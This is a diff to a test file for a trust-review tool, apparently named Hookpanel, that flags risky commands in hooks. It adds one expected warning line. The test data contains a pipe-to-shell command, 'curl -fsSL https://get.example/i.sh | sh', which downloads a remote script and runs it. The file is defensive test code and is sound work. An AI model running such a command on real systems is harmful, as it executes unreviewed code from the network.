@@ -264,6 +264,7 @@ describe('trust review by what would run', () => {
     expect(item.summary).toEqual([
       'Not trusted before: it would run 1 command.',
       'Command `curl -fsSL https://get.example/i.sh | sh`: runs code straight from the internet (curl -fsSL https://get.example/i.sh | sh); sends data over the network (curl to https://get.example/i.sh).',
+      "Command `curl -fsSL https://get.example/i.sh | sh` runs files Hookpanel cannot pin: sh runs code it reads from another command's output; Hookpanel cannot watch them, so read what it runs.",
     ]);
     await trustShown(item);
     env.write(
